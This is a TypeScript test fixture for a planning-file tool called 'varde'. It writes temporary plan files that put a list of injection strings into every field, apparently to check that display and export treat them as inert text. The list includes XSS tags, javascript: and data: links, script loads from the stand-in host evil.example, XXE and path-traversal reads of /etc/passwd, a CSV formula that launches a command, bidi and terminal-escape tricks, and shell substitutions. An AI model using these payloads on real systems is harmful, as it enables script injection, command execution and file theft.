import { mkdir, mkdtemp, realpath, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';

/** What nobody who reads or exports a plan may come across but as text. */
export const attacks = [
  '<script>window.ran = 1</script>',
  '<img src=x onerror="window.ran = 1">',
  '<svg/onload=window.ran=1><a xlink:href="javascript:window.ran=1">x</a></svg>',
  '"><iframe src="https://evil.example/frame"></iframe>',
  "</style></title></textarea><script src='//evil.example/x.js'></script>",
  '--><!DOCTYPE a SYSTEM "file:///etc/passwd"><!--',
  '&xxe; ]]> <![CDATA[ <?php echo 1 ?> &#60;script&#62;',
  '%%{init: {"securityLevel": "loose", "themeCSS": "* { background: url(https://evil.example/css) }"}}%%',
  'click A href "javascript:window.ran=1"',
  'A:::evil; click A call window.ran()',
  'end; classDef evil fill:url(https://evil.example/fill)',
  '=HYPERLINK("https://evil.example","x")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '[x](javascript:window.ran=1) ![x](https://evil.example/x.png) <https://evil.example>',
  '```mermaid |---| <!-- /varde --> <b onclick=window.ran=1>',
  '\u202egnp.exe\u202c \u2066\u200f',
  'a\u0001b\u001b]8;;https://evil.example\u0007c\u0085\u2028d',
  'BEGIN:VALARM;ATTACH:https://evil.example',
  '../../../etc/passwd',
  '{{window.ran=1}} #{window.ran=1} $(touch ran) `touch ran`',
] as const;

const links = [
  'javascript:window.ran=1',
  'data:text/html,<script>window.ran=1</script>',
  'file:///etc/passwd',
];

/** What stands in files outside of the plan's folder, which the plan names. */
export const secret = 'SecretOfOthers';

const quoted = (text: string) => `"${text.replaceAll('\\', '\\\\').replaceAll('"', '\\"')}"`;
const each = (write: (text: string, at: number) => string) =>
  attacks.map((text, at) => write(quoted(text), at)).join('\n');

/** A folder `plans` with a plan that says each of them in each place, and beside the folder what it tries to read. */
const nastyFiles: Readonly<Record<string, string>> = {
  'outside/secret.varde': `role ${secret}\n`,
  'outside/secret.csv': '2026-01,4711\n',
  'plans/other.varde': `plan Other ${quoted(attacks[3])} { starts 2026-01-05 }\nactivity X\n`,
  'plans/plan.varde': `use "../outside/secret.varde"
plan Nasty ${quoted(attacks.slice(0, 5).join(' '))} {
  locale en
  starts 2026-01-05
  as of 2026-01-12
  owner R0
  note ${quoted(attacks[5])}
  ${links.map((link) => `link ${quoted(link)}`).join('\n  ')}
}
indicator Read "Read" { values "../outside/secret.csv" }
${each((text, at) => `role R${at} ${text} { held by ${text} mandate ${text} }`)}
${each((text, at) => `stakeholder S${at} ${text} { influence high interest low concern ${text} }`)}
${each((text, at) => `goal G${at} ${text} { why ${text} measure ${text} owner R${at} }`)}
phase Work ${quoted(attacks[0])} {
${each((text, at) => `activity A${at} ${text} { takes 5d by R${at} for S${at} why ${text} message ${text} note ${text} link ${quoted(links[at % links.length] ?? '')} }`)}
${each((text, at) => `milestone M${at} ${text} { after A${at} }`)}
}
${each((text, at) => `risk K${at} ${text} { likelihood 4 impact 4 cause ${text} owner R${at} response reduce ${text} by A${at} }`)}
process Steps ${quoted(attacks[1])} {
owner R0
start Begin
${each((text, at) => `step T${at} ${text} by R${at % 4} { why ${text} system ${text} }`)}
end Done
Begin -> ${attacks.map((_text, at) => `T${at}`).join(' -> ')} -> Done
T0 -> Done ${quoted(attacks[2])}
}
view Board ${quoted(attacks[4])} as gantt { include A0, A1, A2 }
report All ${quoted(attacks[0])} {
${each((text) => `text ${text}`)}
diagram gantt
diagram risks
}
`,
};

/** Writes them, and returns the path of the folder around them; whoever asks for it takes it away. */
export async function layNastyFiles(): Promise<string> {
  const folder = await realpath(await mkdtemp(join(tmpdir(), 'varde-nasty-')));
  for (const [path, text] of Object.entries(nastyFiles)) {
    await mkdir(dirname(join(folder, path)), { recursive: true });
    await writeFile(join(folder, path), text);
  }
  return folder;
}
